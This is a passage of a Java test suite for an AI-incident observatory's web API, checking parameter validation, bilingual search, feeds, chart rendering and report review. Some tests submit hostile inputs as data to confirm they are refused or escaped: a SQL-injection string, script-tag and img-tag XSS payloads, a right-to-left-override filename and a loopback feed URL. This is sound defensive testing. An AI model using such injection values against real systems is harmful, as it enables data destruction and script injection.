    // and a number is ASCII digits, as an id is (outside QA, 2026-12-07: full-width "１" and "+5" were read)
    for (String path : new String[] {"/api/incidents/alerts?limit=-1", "/api/incidents/decisions?limit=0", "/api/incidents/alerts?limit=5000",
        "/api/incidents?limit=%EF%BC%91", "/api/incidents?limit=%2B5", "/api/incidents/alerts?limit=%D9%A3"}) {
      HttpResponse<String> resp = get(path);
      assertEquals(400, resp.statusCode(), path + " -> " + resp.body());
      assertEquals("limit", Json.read(resp.body()).path("field").asText());
    }
    HttpResponse<String> far = get("/api/incidents?q=robot&limit=1&offset=" + Integer.MAX_VALUE);
    assertEquals(200, far.statusCode(), far.body());
    assertEquals(0, Json.read(far.body()).get("items").size());
    StringBuilder alternatives = new StringBuilder("w0");
    for (int i = 1; i < 300; i++) alternatives.append("|w").append(i);
    HttpResponse<String> many = get("/api/incidents?q=" + java.net.URLEncoder.encode(alternatives.toString(), java.nio.charset.StandardCharsets.UTF_8));
    assertEquals(400, many.statusCode(), many.body());
    assertEquals("q", Json.read(many.body()).path("field").asText());
    // facet values are matched as themselves: % and _ are not wildcards
    assertEquals(0, Json.read(get("/api/incidents?sector=%25").body()).get("total").asInt());
    assertEquals(0, Json.read(get("/api/incidents?sector=_olitics").body()).get("total").asInt());
    assertTrue(Json.read(get("/api/incidents?sector=politics").body()).get("total").asInt() > 0, "what _ would have matched");
    assertTrue(Json.read(get("/api/incidents?limit=1").body()).get("total").asInt() > 0);
    HttpResponse<String> name = post("/api/incidents/subscriptions", "analyst", "{\"name\":\"" + "n".repeat(10_000) + "\",\"series\":\"topic=military\"}");
    assertEquals(400, name.statusCode(), name.body());
    assertEquals("name", Json.read(name.body()).path("field").asText());
    HttpResponse<String> terms = post("/api/incidents/topics", "analyst", "{\"id\":\"kelp\",\"name_en\":\"Kelp\",\"terms_en\":[\"kelp\",{\"x\":1}]}");
    assertEquals(400, terms.statusCode(), terms.body());
    assertEquals("terms_en", Json.read(terms.body()).path("field").asText());
    JsonNode list = Json.read(get("/api/incidents?limit=2").body());
    long a = list.get("items").get(0).get("id").asLong(), b = list.get("items").get(1).get("id").asLong();
    // QA of 2026-12-07: these answered parameters they do not read as if asked (a client paging with offset looped)
    String[][] unread = {{"/api/incidents/" + a + "?foo=1", "foo"}, {"/api/incidents/" + a + "/records?limit=1", "limit"},
        {"/api/incidents/topics/military?x=1", "x"}, {"/api/incidents/topics/military/history?offset=2", "offset"}};
    for (String[] u : unread) {
      HttpResponse<String> resp = get(u[0]);
      assertEquals(400, resp.statusCode(), u[0] + " -> " + resp.body());
      assertEquals(u[1], Json.read(resp.body()).path("field").asText(), u[0] + " -> " + resp.body());
    }
    HttpResponse<String> subs = send("GET", "/api/incidents/subscriptions?page=2", "analyst", null);
    assertEquals(400, subs.statusCode(), subs.body());
    assertEquals("page", Json.read(subs.body()).path("field").asText());
    assertEquals(401, get("/api/incidents/subscriptions?page=2").statusCode(), "a stranger is asked to sign in first");
    assertEquals(401, get("/api/incidents/subscriptions/1/deliveries?offset=1").statusCode(), "here too");
    HttpResponse<String> fraction = post("/api/incidents/" + a + "/merge", "editor", "{\"with\":" + b + ".9}");
    assertEquals(400, fraction.statusCode(), "439.9 must not merge incident 439: " + fraction.body());
    HttpResponse<String> note = post("/api/incidents/" + a + "/merge", "editor", "{\"with\":" + b + ",\"note\":\"" + "x".repeat(100_000) + "\"}");
    assertEquals(400, note.statusCode(), note.body());
    assertEquals("note", Json.read(note.body()).path("field").asText());
    assertEquals(2, Json.read(get("/api/incidents?limit=2").body()).get("items").size(), "nothing was merged by the refused requests");
    assertEquals(400, post("/api/incidents/alerts/scan?window=1000000000", "editor", "").statusCode());
  }

  @Test
  void aTrendOfTooManyCellsIsRefusedNotBuilt() {
    Trends.Index idx = Trends.index(db);
    Trends.Query q = Trends.Query.parse(Map.of("granularity", List.of("day"), "split", List.of("country")));
    ApiException e = assertThrows(ApiException.class, () -> Trends.query(idx, q, 10));
    assertEquals("split", e.field);
    assertTrue(e.getMessage().contains("narrow it"), e.getMessage());
    assertFalse(Trends.query(idx, Trends.Query.parse(Map.of("granularity", List.of("year"))), 10_000).periods().isEmpty());
  }

  static java.util.Set<String> sourceIds(JsonNode list, IncidentsRoutesTest t) throws Exception {
    java.util.Set<String> out = new java.util.HashSet<>();
    for (JsonNode i : list.get("items")) {
      for (JsonNode r : Json.read(t.get("/api/incidents/" + i.get("id").asLong() + "/records").body()).get("items")) {
        out.add(r.get("source").asText() + ":" + r.get("source_id").asText());
      }
    }
    return out;
  }

  JsonNode search(String q) throws Exception {
    HttpResponse<String> r = get("/api/incidents?limit=100&q=" + java.net.URLEncoder.encode(q, java.nio.charset.StandardCharsets.UTF_8));
    assertEquals(200, r.statusCode(), q + ": " + r.body());
    return Json.read(r.body());
  }

  /** A feed's stored error is read in the request's language (the 监测源 panel sends the page's), the English kept as last_error_en. */
  @Test
  void aFeedsStoredErrorIsReadInTheRequestsLanguage() throws Exception {
    HttpResponse<String> ok = post("/api/incidents/feeds", "editor", "{\"url\":\"https://example.org/ai-incidents.xml\",\"name\":\"Example\"}");
    assertEquals(201, ok.statusCode(), ok.body());
    long id = Json.read(ok.body()).get("id").asLong();
    String en = "feed URL refused: host localhost resolves to 127.0.0.1, a loopback, private, link-local or otherwise non-public address"
        + " (set OBS_WEBHOOK_ALLOW_PRIVATE=1 to allow)";
    db.tx(c -> org.aigov.observatory.kernel.Sql.update(c, "UPDATE incident_feeds SET last_status = 'error', last_error = ? WHERE id = ?", en, id));
    HttpRequest zhReq = HttpRequest.newBuilder(URI.create(base + "/api/incidents/feeds")).header("Accept-Language", "zh-CN,zh;q=0.9,en;q=0.5").build();
    HttpResponse<String> zh = http.send(zhReq, HttpResponse.BodyHandlers.ofString());
    assertEquals(200, zh.statusCode(), zh.body());
    JsonNode f = Json.read(zh.body()).get("items").get(0);
    assertEquals("订阅源网址被拒绝：主机 localhost 解析为 127.0.0.1，这是回环、私有、链路本地或其他非公开地址（设置 OBS_WEBHOOK_ALLOW_PRIVATE=1 可允许）",
        f.get("last_error").asText(), zh.body());
    assertEquals(en, f.get("last_error_en").asText());
    JsonNode plain = Json.read(get("/api/incidents/feeds").body()).get("items").get(0);
    assertEquals(en, plain.get("last_error").asText());
    assertFalse(plain.has("last_error_en"));
  }

  /** An editor sees every field an anonymous report gave before accepting (publishing) it; ids it tried to choose are said to be ignored. */
  @Test
  void theReviewQueueShowsEveryFieldTheSenderGave() throws Exception {
    HttpResponse<String> r = post("/api/incidents/reports", null, "{\"url\":\"https://qa.example/s11\",\"title\":\"harm\",\"source\":\"aiid\","
        + "\"source_id\":\"72\",\"harm_types\":[\"<img src=x>\"],\"countries\":[\"CN\"],\"deployers\":[\"Acme Bank\"],\"systems\":[\"Hawk-3\"],"
        + "\"sectors\":[\"finance\"],\"authors\":[\"Li Wei\"],\"developers\":[\"DroneCo\"]}");
    assertEquals(201, r.statusCode(), r.body());
    assertEquals("source, source_id: not taken from an anonymous report; it is stored as source 'public' with an id of its own",
        Json.read(r.body()).get("note").asText());
    JsonNode item = Json.read(send("GET", "/api/incidents/reports/pending?limit=5", "editor", null).body()).get("items").get(0);
    assertEquals("<img src=x>", item.get("harm_types").asText(), item.toString());
    assertEquals("CN", item.get("countries").asText());
    assertEquals("Acme Bank", item.get("deployers").asText());
    assertEquals("Hawk-3", item.get("systems").asText());
    assertEquals("finance", item.get("sectors").asText());
    assertEquals("Li Wei", item.get("authors").asText());
    assertEquals("DroneCo", item.get("developers").asText());
    // a plain report gets no note
    assertFalse(Json.read(post("/api/incidents/reports", null, "{\"url\":\"https://qa.example/s12\",\"title\":\"other\"}").body()).has("note"));
  }

  /** A paid feed's key in its URL is the operator's: the public's feed list, records, records feed and CSV never show it. */
  @Test
  void aFeedsKeyInItsUrlIsNotPublished() throws Exception {
    String url = "https://example.org/dep.atom?api_key=SECRETKEY456";
    HttpResponse<String> ok = post("/api/incidents/feeds", "editor", "{\"url\":\"" + url + "\"}");
    assertEquals(201, ok.statusCode(), ok.body());
    long fid = Json.read(ok.body()).get("id").asLong();
    db.tx(c -> org.aigov.observatory.kernel.Sql.update(c, "UPDATE incident_feeds SET last_status = 'error', last_error = ? WHERE id = ?",
        "feed " + url + " answered HTTP 500", fid));
    String atom = "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><id>urn:dep:3000</id><title>Depot robot injures worker</title>"
        + "<updated>2025-01-02T00:00:00Z</updated><summary>A robot at a depot injured a worker.</summary></entry></feed>";
    assertEquals(1, new Ingest(db, Classifier.bundled(), org.aigov.observatory.kernel.Progress.silent())
        .feedBody(url, atom.getBytes(java.nio.charset.StandardCharsets.UTF_8), fid).inserted);
    new Clusterer(new Clusterer.Options(), org.aigov.observatory.kernel.Progress.silent()).run(db);
    long inc = Long.parseLong(IngestTest.one(db, "SELECT CAST(m.incident_id AS VARCHAR(20)) FROM incident_members m JOIN incident_records r ON r.id = m.record_id WHERE r.source_id LIKE '%urn:dep:3000'"));
    for (String path : new String[] {"/api/incidents/feeds", "/api/incidents/" + inc + "/records", "/api/incidents/records.atom?record_source=feed",
        "/api/incidents/export.csv"}) {
      HttpResponse<String> r = get(path);
      assertEquals(200, r.statusCode(), path + ": " + r.body());
      assertFalse(r.body().contains("SECRETKEY456"), path + ": " + r.body());
      assertTrue(r.body().contains("example.org/dep.atom?api_key=~"), path + " still names the feed: " + r.body());
    }
    // the editor who manages the feed sees its URL
    HttpRequest asEditor = HttpRequest.newBuilder(URI.create(base + "/api/incidents/feeds")).header("Authorization", "Bearer editor").build();
    assertTrue(http.send(asEditor, HttpResponse.BodyHandlers.ofString()).body().contains("SECRETKEY456"));
  }

  @Test
  void feedsAreConfiguredByEditorsAndListedWithTheMonitorsStatus() throws Exception {
    String feed = "{\"url\":\"https://example.org/ai-incidents.xml\",\"name\":\"Example 示例\",\"interval_seconds\":600}";
    assertEquals(401, post("/api/incidents/feeds", null, feed).statusCode());
    assertEquals(403, post("/api/incidents/feeds", "analyst", feed).statusCode());
    HttpResponse<String> bad = post("/api/incidents/feeds", "editor", "{\"url\":\"gopher://example.org/x\"}");
    assertEquals(400, bad.statusCode());
    assertTrue(bad.body().contains("http(s)"), bad.body());
    assertEquals(400, post("/api/incidents/feeds", "editor", "{\"url\":\"https://example.org/x\",\"interval_seconds\":\"often\"}").statusCode());
    assertEquals(400, post("/api/incidents/feeds", "editor", "{\"url\":\"https://example.org/x\",\"interval_seconds\":10}").statusCode());
    assertEquals(400, post("/api/incidents/feeds", "editor", "[1]").statusCode());
    HttpResponse<String> ok = post("/api/incidents/feeds", "editor", feed);
    assertEquals(201, ok.statusCode(), ok.body());
    long id = Json.read(ok.body()).get("id").asLong();
    JsonNode list = Json.read(get("/api/incidents/feeds").body()).get("items");
    assertEquals(1, list.size());
    assertEquals("Example 示例", list.get(0).get("name").asText());
    assertEquals(600, list.get(0).get("interval_seconds").asInt());
    assertEquals(202, post("/api/incidents/feeds/" + id + "/poll", "editor", "").statusCode());
    assertEquals(404, post("/api/incidents/feeds/77/poll", "editor", "").statusCode());
    HttpRequest del = HttpRequest.newBuilder(URI.create(base + "/api/incidents/feeds/" + id)).DELETE().header("Authorization", "Bearer editor").build();
    assertEquals(204, http.send(del, HttpResponse.BodyHandlers.ofString()).statusCode());
    assertFalse(Json.read(get("/api/incidents/feeds").body()).get("items").get(0).get("active").asBoolean());
    // adding a known URL again updates that feed and says so: 200, not a 201 that looks like a second feed
    HttpResponse<String> again = post("/api/incidents/feeds", "editor", feed.replace("Example 示例", "Renamed"));
    assertEquals(200, again.statusCode(), again.body());
    assertEquals("updated", Json.read(again.body()).get("outcome").asText());
    assertEquals(id, Json.read(again.body()).get("id").asLong());
    assertEquals(1, Json.read(get("/api/incidents/feeds").body()).get("items").size());
    assertEquals(204, http.send(del, HttpResponse.BodyHandlers.ofString()).statusCode());
    JsonNode st = Json.read(get("/api/incidents/monitor").body());
    assertFalse(st.get("records_waiting_for_clustering").asBoolean(), st.toString());
    assertEquals(0, st.get("active_feeds").asLong());
    assertFalse(st.get("running").asBoolean(), "no monitor runs in this test");
    assertTrue(st.get("last_cluster").asText().contains("incidents"), st.toString());
  }

  @Test
  void fullTextSearchReadsRecordTextsInEnglishAndChineseAndFollowsUpdates() throws Exception {
    // "homeowner" is only in the description of AIID 33, not in any title; "playing" stems to the title's "Plays"
    assertTrue(sourceIds(search("homeowner police"), this).contains("aiid:33"));
    assertTrue(sourceIds(search("playing loud music"), this).contains("aiid:33"));
    assertEquals(0, search("homeowner +zebra").get("total").asLong(), "every word must match");
    JsonNode loose = search("homeowner zebra"); // a plain query that finds nothing shows all but one word, and says so
    assertTrue(sourceIds(loose, this).contains("aiid:33") && loose.get("relaxed").asBoolean(), loose.toString());
    assertFalse(sourceIds(search("homeowner -police"), this).contains("aiid:33"), "-word excludes");
    // ranked: an incident naming the query in its records comes before one that does not
    JsonNode k5 = search("knightscope");
    assertTrue(k5.get("total").asLong() >= 1);
    double top = k5.get("items").get(0).get("score").asDouble();
    for (JsonNode i : k5.get("items")) assertTrue(i.get("score").asDouble() <= top);
    // a Chinese report, found by a word of it (segmented), after clustering gives it an incident
    post("/api/incidents/reports", "editor", "{\"source\":\"feedzh\",\"source_id\":\"zh-1\",\"url\":\"https://example.cn/1\","
        + "\"title\":\"军用无人机误击平民车辆\",\"text\":\"一架军用无人机在演习中误击了平民车辆。\",\"published\":\"2024-06-01\"}");
    assertEquals(200, post("/api/incidents/cluster", "editor", "").statusCode());
    assertTrue(sourceIds(search("无人机"), this).contains("feedzh:zh-1"), "Chinese word in a Chinese report");
    assertTrue(sourceIds(search("平民 车辆"), this).contains("feedzh:zh-1"));
    // across languages through the glossary: English words find the Chinese report, Chinese words the English records
    assertTrue(sourceIds(search("military drone"), this).contains("feedzh:zh-1"));
    assertTrue(sourceIds(search("深度伪造"), this).contains("aiid:39"), "深度伪造 finds the deepfake of Obama");
    assertFalse(sourceIds(search("深度伪造"), this).contains("feedzh:zh-1"));
    // Traditional characters (Taiwan, Hong Kong) find Simplified text and the other way round, glossary included
    assertTrue(sourceIds(search("軍用無人機"), this).contains("feedzh:zh-1"), "Traditional query, Simplified report");
    assertTrue(sourceIds(search("深度偽造"), this).contains("aiid:39"), "Traditional glossary word");
    post("/api/incidents/reports", "editor", "{\"source\":\"feedzh\",\"source_id\":\"zh-2\",\"url\":\"https://example.tw/2\","
        + "\"title\":\"警方人臉識別系統誤認無辜市民\",\"text\":\"台北一名市民遭人臉識別系統誤認。\",\"published\":\"2024-07-01\"}");
    assertEquals(200, post("/api/incidents/cluster", "editor", "").statusCode());
    assertTrue(sourceIds(search("人脸识别 市民"), this).contains("feedzh:zh-2"), "Simplified query, Traditional report");
    assertTrue(sourceIds(search("人臉識別 市民"), this).contains("feedzh:zh-2"));
    // re-ingested with new text: the index follows (catch-up by updated_at)
    post("/api/incidents/reports", "editor", "{\"source\":\"feedzh\",\"source_id\":\"zh-1\",\"url\":\"https://example.cn/1\","
        + "\"title\":\"军用无人机误击平民车辆\",\"text\":\"更正：事故涉及一架侦察无人机 reconnaissance.\",\"published\":\"2024-06-01\"}");
    assertTrue(sourceIds(search("reconnaissance"), this).contains("feedzh:zh-1"), "updated text is searchable");
    // filters still apply to a text query, and paging is over incidents
    JsonNode filtered = Json.read(get("/api/incidents?q=%E6%97%A0%E4%BA%BA%E6%9C%BA&source=aiid").body());
    assertFalse(sourceIds(filtered, this).contains("feedzh:zh-1"), "source filter applies to text hits");
    JsonNode p1 = Json.read(get("/api/incidents?q=amazon&limit=1").body()), p2 = Json.read(get("/api/incidents?q=amazon&limit=1&offset=1").body());
    if (p1.get("total").asLong() > 1) assertNotEquals(p1.get("items").get(0).get("id"), p2.get("items").get(0).get("id"));
    // hostile or broken syntax is a query like any other, never a server error
    for (String q : new String[] {"\"unbalanced", "(((", "-", "*", "a|", "\\", "title:x", "~~~", "'; DROP TABLE incidents; --"}) search(q);
    assertEquals(400, get("/api/incidents?q=x&sort=size").statusCode());
    assertEquals(400, get("/api/incidents?q=" + "a".repeat(1001)).statusCode());

    assertTrue(search("amazon").get("total").asLong() >= 1, "the store survived the hostile queries");
  }

  @Test
  void aServerWithADataFolderIndexesInTheBackgroundAtStart() throws Exception {
    Path idx = tmp.resolve("warm-index");
    Javalin other = Javalin.create();
    new IncidentsRoutes(db, null, idx).routes(other); // registering the routes starts the warm-up; no request is made
    long deadline = System.currentTimeMillis() + 20_000;
    boolean committed = false;
    while (!committed && System.currentTimeMillis() < deadline) {
      Thread.sleep(100);
      try (var files = java.nio.file.Files.list(idx)) {
        committed = files.anyMatch(f -> f.getFileName().toString().startsWith("segments_"));
      } catch (java.nio.file.NoSuchFileException e) {
        // not created yet
      }
    }
    assertTrue(committed, "the index was built and committed without any search");
  }

  @Test
  void trendChartIsSvgInBothLanguagesAndEscapesWhatItIsGiven() throws Exception {
    HttpResponse<String> en = get("/api/incidents/trends/chart.svg?granularity=year");
    assertEquals(200, en.statusCode(), en.body());
    assertTrue(en.headers().firstValue("Content-Type").orElse("").startsWith("image/svg+xml"));
    assertTrue(en.body().contains("Incidents per year"), en.body().substring(0, 300));
    wellFormed(en.body());
    HttpResponse<String> zh = get("/api/incidents/trends/chart.svg?granularity=month&standardize=true&topic=military&lang=zh");
    assertEquals(200, zh.statusCode(), zh.body());
    // the share's title names the topic (review of 2026-12-05: "每月事件占全部事件的百分比" did not say of what)
    assertTrue(zh.body().contains("军事人工智能事件占全部事件的百分比（每月）") && zh.body().contains("筛选：主题 = 军事人工智能"), "Chinese title and the filter, by the topic's name");
    HttpResponse<String> enShare = get("/api/incidents/trends/chart.svg?granularity=month&standardize=true&topic=military");
    assertTrue(enShare.body().contains("Military AI incidents as % of all incidents (per month)") && enShare.body().contains("Filter: Topic = Military AI"), "English too");
    wellFormed(zh.body());
    // a facet value is drawn as text: markup in it must come out as text, not as SVG or script
    HttpResponse<String> hostile = get("/api/incidents/trends/chart.svg?sector=%3Cscript%3Ealert(1)%3C/script%3E");
    assertEquals(200, hostile.statusCode());
    assertFalse(hostile.body().contains("<script"), "markup from the query is escaped");
    assertTrue(hostile.body().contains("&lt;script&gt;"));
    wellFormed(hostile.body());
    for (String bad : new String[] {"granularity=hour", "width=99999", "lang=fr", "alpha=abc", "alpha=1.5", "alpha=0x1p-4", "alpha=0.01d", "alpha=NaN", "from=2024-13-40", "topic=militray"}) {
      HttpResponse<String> r = get("/api/incidents/trends/chart.svg?" + bad);
      assertEquals(400, r.statusCode(), bad + ": " + r.body());
      assertTrue(r.body().contains(bad.substring(0, bad.indexOf('='))), "the error names the parameter: " + r.body());
    }
    HttpResponse<String> json = get("/api/incidents/trends?spikes=1&alpha=abc");
    assertEquals(400, json.statusCode(), "a bad alpha on the JSON series is a 400 too, not a server error");
  }

  /** The nothing between two '&', or after a last one, is no parameter (outside QA, 2026-12-07: a 400 naming field ""). */
  @Test
  void anEmptyPartOfTheQueryIsNoParameter() throws Exception {
    for (String path : new String[] {"/api/incidents?limit=2&", "/api/incidents?&limit=2", "/api/incidents?limit=2&&q=a",
        "/api/incidents/trends?&granularity=year", "/api/incidents/alerts?"}) {
      HttpResponse<String> r = get(path);
      assertEquals(200, r.statusCode(), path + ": " + r.body());
    }
    // a name left out before a value is still named as unknown
    HttpResponse<String> r = get("/api/incidents?=x&limit=2");
    assertEquals(400, r.statusCode(), r.body());
    assertTrue(r.body().contains("unknown parameter"), r.body());
  }

  /** Found by an outside QA pass on 2026-12-06: each answered 200 (or ran the server out of heap) before. */
  @Test
  void qaFindingsOfTheSixthOfDecember() throws Exception {
    // a chart draws at most MAX_CHART_CELLS points: a day chart since 1900 split by topic had exhausted the heap
    HttpResponse<String> huge = get("/api/incidents/trends/chart.svg?granularity=day&from=1900-01-01&split=topic");
    assertEquals(400, huge.statusCode());
    assertEquals("split", Json.read(huge.body()).get("field").asText(), huge.body());
    assertTrue(huge.body().matches(".*\\d+ periods × [1-8] lines is more than 20000 points.*"), "the drawn lines count, at most eight: " + huge.body());
    assertEquals(200, get("/api/incidents/trends/chart.svg?granularity=day&from=2020-01-01&split=country").statusCode(), "every country counted, eight drawn");
    HttpResponse<String> long1 = get("/api/incidents/trends/chart.svg?granularity=day&from=1900-01-01");
    assertEquals(400, long1.statusCode());
    assertTrue(long1.body().contains("narrow it"), long1.body());
    assertEquals(200, get("/api/incidents/trends?granularity=day&from=1900-01-01").statusCode(), "the JSON series keeps its larger cap");
    assertEquals(200, get("/api/incidents/trends/chart.svg?granularity=day&from=2020-01-01").statusCode());
    // bidi overrides, zero-width spaces and line breaks: a term that displays reversed or never matches
    String[][] invisible = {{"\\u202erobot", "terms_en"}, {"ro\\u200bbot", "terms_en"}, {"line1\\nline2", "terms_en"}};
    for (String[] x : invisible) {
      HttpResponse<String> r = post("/api/incidents/topics", "analyst", "{\"id\":\"qa-x\",\"name_en\":\"x\",\"terms_en\":[\"" + x[0] + "\"]}");
      assertEquals(400, r.statusCode(), x[0] + ": " + r.body());
      assertEquals(x[1], Json.read(r.body()).get("field").asText(), r.body());
      assertTrue(r.body().contains("U+"), "the character is named: " + r.body());
    }
    HttpResponse<String> rtlName = post("/api/incidents/topics", "analyst", "{\"id\":\"qa-rtl\",\"name_en\":\"\\u202egnp.exe\",\"terms_en\":[\"robot\"]}");
    assertEquals(400, rtlName.statusCode());
    assertTrue(rtlName.body().contains("name_en") && rtlName.body().contains("U+202E"), rtlName.body());
    assertEquals(400, post("/api/incidents/subscriptions", "analyst", "{\"name\":\"a\\nb\",\"series\":\"topic=military\"}").statusCode());
    // a topic in one language says what it will not count, and offers the glossary's words for the other
    HttpResponse<String> zhOnly = post("/api/incidents/topics", "analyst", "{\"id\":\"qa-face\",\"name_en\":\"Face\",\"name_zh\":\"人脸\",\"terms_zh\":[\"人脸识别\"]}");
    assertEquals(201, zhOnly.statusCode(), zhOnly.body());
    JsonNode notes = Json.read(zhOnly.body()).get("notes");
    assertEquals(1, notes.size(), notes.toString());
    assertEquals("terms_en", notes.get(0).get("field").asText());
    assertTrue(notes.get(0).get("en").asText().contains("facial recognition") && notes.get(0).get("zh").asText().contains("facial recognition"), notes.toString());
    JsonNode both = Json.read(post("/api/incidents/topics", "analyst", "{\"id\":\"qa-both\",\"name_en\":\"Face\",\"terms_en\":[\"face recognition\"],\"terms_zh\":[\"人脸识别\"]}").body());
    assertEquals(0, both.get("notes").size(), "both languages: nothing to say");
    // the name as GET answers it ({"en","zh"}) is taken on writes too, so a topic read can be written back
    HttpResponse<String> asRead = send("PUT", "/api/incidents/topics/qa-both", "analyst", "{\"name\":{\"en\":\"Faces\",\"zh\":\"人脸\"},\"terms_en\":[\"face recognition\"],\"terms_zh\":[\"人脸识别\"]}");
    assertEquals(200, asRead.statusCode(), asRead.body());
    assertEquals("人脸", Json.read(get("/api/incidents/topics/qa-both").body()).get("name").get("zh").asText());
    for (String bad : new String[] {"{\"name\":\"x\",\"terms_en\":[\"y\"]}", "{\"name\":{\"en\":\"x\",\"fr\":\"y\"},\"terms_en\":[\"y\"]}",
        "{\"name\":{\"en\":\"x\"},\"name_en\":\"x\",\"terms_en\":[\"y\"]}"}) {
      HttpResponse<String> r = send("PUT", "/api/incidents/topics/qa-both", "analyst", bad);
      assertEquals(400, r.statusCode(), bad);
      assertEquals("name", Json.read(r.body()).get("field").asText(), r.body());
    }
    // a misspelt series on the alert feed and list, and any filter on the export, are refused, not answered with everything or nothing
    for (String bad : new String[] {"/api/incidents/feed.atom?series=topic=militray", "/api/incidents/alerts?series=topic%3Dmilitray",
        "/api/incidents/feed.atom?foo=bar", "/api/incidents/export.csv?topic=military", "/api/incidents/facets?x=1", "/api/incidents/facets/labels?x=1",
        "/api/incidents/alerts?foo=1"}) {
      HttpResponse<String> r = get(bad);
      assertEquals(400, r.statusCode(), bad + ": " + r.body());
    }
    String milFeed = get("/api/incidents/feed.atom?series=topic=military").body();
    assertTrue(milFeed.contains("<title>Incident alerts / 事件预警 — Topic: Military AI (per month) / 主题：军事人工智能（每月）</title>"), "the series by its names: " + milFeed);

    assertEquals(200, get("/api/incidents/export.csv?bom=true").statusCode());
    assertEquals(200, get("/api/incidents/alerts?limit=10&order=period").statusCode(), "what the page asks");
    // a CSV read alone says what its periods leave out, as the JSON does
    HttpResponse<String> csv = get("/api/incidents/trends?granularity=month&format=csv");
    JsonNode js = Json.read(get("/api/incidents/trends?granularity=month").body());
    assertEquals(js.get("year_precision_not_counted").asText(), csv.headers().firstValue("X-Year-Precision-Not-Counted").orElse(null));
    assertEquals(js.get("undated_not_counted").asText(), csv.headers().firstValue("X-Undated-Not-Counted").orElse(null));
    assertTrue(js.get("year_precision_not_counted").asLong() > 0, "the fixture's AIAAIC entries are known by year only");
    // one address per incident
    long first = Json.read(get("/api/incidents?limit=1").body()).get("items").get(0).get("id").asLong();
    assertEquals(200, get("/api/incidents/" + first).statusCode());
    for (String alias : new String[] {"+" + first, "0" + first, "%D9%A1"})
      assertEquals(404, get("/api/incidents/" + alias).statusCode(), alias);
    // English stop words alone are no query (the Chinese analysis had matched them in every English record)
    // ... nor with a phrase's slop, which had analysed as the word "1" (outside QA, 2026-12-07: "the"~1 found 434)
    for (String stop : new String[] {"the", "AND", "of%20the", "%22the%22~1", "%22of%20the%22~2", "-the"})
      assertEquals(0, Json.read(get("/api/incidents?q=" + stop).body()).get("total").asInt(), stop);
    assertTrue(Json.read(get("/api/incidents?q=the%20police").body()).get("total").asInt() > 0, "beside a word they are ignored, as before");
    // the feeds' links to this server are absolute, resolved against the feed's own address (no OBS_PUBLIC_URL here)
    String shared = get("/api/incidents/records.atom").body();
    assertTrue(shared.contains("rel=\"related\" href=\"" + base + "/api/incidents/") && !shared.contains("href=\"/api/"), shared.substring(0, Math.min(1500, shared.length())));
    // an analyst's refused merge no longer speaks of the registry
    HttpResponse<String> merge = post("/api/incidents/" + first + "/merge", "analyst", "{\"with\":" + first + "}");
    assertEquals(403, merge.statusCode());
    assertTrue(merge.body().contains("takes an editor") && !merge.body().contains("registry"), merge.body());
  }

  /** Hostile values found by a review of the API: each is refused naming its field, or made harmless where it is drawn. */
  @Test
  void hostileValuesAreRefusedOrMadeHarmless() throws Exception {
    // a control character in a stored facet value (files and JSON accept them) must not break the chart for everyone
    assertEquals(201, post("/api/incidents/reports", "editor", "{\"url\":\"https://ctl.example/1\",\"title\":\"Kiosk robot fault\","
        + "\"sectors\":[\"Retail\\u0001\\ufffe\"],\"published\":\"2024-02-02\"}").statusCode());
    assertEquals(200, post("/api/incidents/cluster", "editor", "").statusCode());
    HttpResponse<String> chart = get("/api/incidents/trends/chart.svg?granularity=year&split=sector");
    assertEquals(200, chart.statusCode());
    assertTrue(chart.body().contains("Retail"), "the series is drawn, without the character");
    wellFormed(chart.body());
    String[][] refused = {
        {"/api/incidents/topics", "{\"id\":\"ctl\",\"name_en\":\"TOPIC \\u0001\",\"terms_en\":[\"drone\"]}", "name_en"},
        {"/api/incidents/topics", "{\"id\":\"ctl\",\"name_en\":\"Ok\",\"terms_en\":[\"dr\\u0001one\"]}", "terms_en"},
        {"/api/incidents/subscriptions", "{\"name\":\"s\",\"series\":\"sector=" + "x".repeat(390) + "\"}", "series"},
        {"/api/incidents/reports", "{\"title\":\"a\"} {\"title\":\"b\"}", "body"},
        {"/api/incidents/reports", "{\"title\":\"a\",\"title\":\"b\"}", "body"},
        {"/api/incidents/reports", "{\"title\":\"a\",\"url\":\"https://long.example/" + "p".repeat(4000) + "\"}", "url"},
        {"/api/incidents/reports", "{\"title\":\"" + "t".repeat(4000) + "\"}", "title"}};
    for (String[] c : refused) {
      HttpResponse<String> r = post(c[0], "editor", c[1]);
      assertEquals(400, r.statusCode(), c[1].substring(0, Math.min(80, c[1].length())) + " → " + r.body());
      assertEquals(c[2], Json.read(r.body()).get("field").asText(), r.body());
    }
    assertEquals(0, IngestTest.count(db, "SELECT COUNT(*) FROM incident_topics WHERE id = 'ctl'"));
  }

  static void wellFormed(String xml) throws Exception {
    javax.xml.parsers.DocumentBuilderFactory f = javax.xml.parsers.DocumentBuilderFactory.newInstance();
    f.setFeature("http://apache.org/xml/features/nonvalidating/load-external-dtd", false); // JFreeSVG writes a DOCTYPE; nothing is fetched
    assertEquals("svg", f.newDocumentBuilder().parse(new org.xml.sax.InputSource(new java.io.StringReader(xml))).getDocumentElement().getNodeName());
  }

  /** A reporter's change to a report an editor accepted is judged again; it stops counting until then. */
  @Test
  void anAcceptedReportChangedByItsSenderGoesBackToReview() throws Exception {
    HttpResponse<String> first = post("/api/incidents/reports", "analyst", "{\"id\":\"r1\",\"title\":\"Drone strike misidentifies convoy\",\"url\":\"https://news.example.org/r1\",\"date\":\"2024-05-01\"}");
    assertEquals(201, first.statusCode(), first.body());
    long rec = Json.read(first.body()).get("record_id").asLong();
    assertEquals(200, post("/api/incidents/reports/" + rec + "/review", "editor", "{\"decision\":\"accept\"}").statusCode());
    assertEquals("accepted", status(rec));
    assertEquals(200, post("/api/incidents/cluster", "editor", "").statusCode());
    long incident = IngestTest.count(db, "SELECT incident_id FROM incident_members WHERE record_id = " + rec);
    assertTrue(get("/api/incidents/" + incident + "/records").body().contains("Drone strike misidentifies convoy"));
    HttpResponse<String> edit = post("/api/incidents/reports", "analyst", "{\"id\":\"r1\",\"title\":\"EDITED AFTER ACCEPTANCE\",\"url\":\"https://news.example.org/r1\",\"date\":\"2024-05-01\"}");
    assertEquals(200, edit.statusCode(), edit.body());
    assertEquals("updated", Json.read(edit.body()).get("outcome").asText());
    assertEquals("pending", Json.read(edit.body()).get("review").asText());
    assertEquals("pending", status(rec));
    JsonNode queue = Json.read(send("GET", "/api/incidents/reports/pending?limit=500", "editor", null).body()).get("items");
    boolean queued = false;
